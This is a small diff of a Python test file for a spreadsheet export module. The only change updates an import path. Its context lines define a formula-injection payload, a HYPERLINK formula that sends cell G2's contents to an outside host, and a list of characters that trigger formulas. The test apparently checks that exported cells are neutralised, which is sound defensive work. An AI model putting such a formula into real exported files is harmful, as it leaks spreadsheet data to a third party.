@@ -12,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from api.tabular import inert_cell, read_rows, restored_cell, write_csv, write_xlsx
+from api.transfer.tabular import inert_cell, read_rows, restored_cell, write_csv, write_xlsx
 
 PAYLOAD = '=HYPERLINK("http://x.cn/?"&G2,"点")'
 TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
